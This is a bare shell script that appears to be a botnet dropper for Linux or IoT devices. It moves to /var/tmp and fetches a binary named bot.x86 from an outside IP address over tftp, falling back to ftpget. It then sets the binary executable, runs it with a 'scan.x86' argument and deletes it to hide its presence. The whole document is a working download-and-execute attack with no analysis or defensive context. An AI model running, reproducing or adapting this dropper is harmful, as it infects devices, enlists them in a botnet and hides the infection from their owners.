#!/bin/sh
cd /var/tmp
tftp -g -r bot.x86 198.51.100.70 || ftpget -v -u anonymous -p anonymous -P 21 198.51.100.70 bot.x86 bot.x86
chmod 777 bot.x86
./bot.x86 scan.x86
rm -f bot.x86
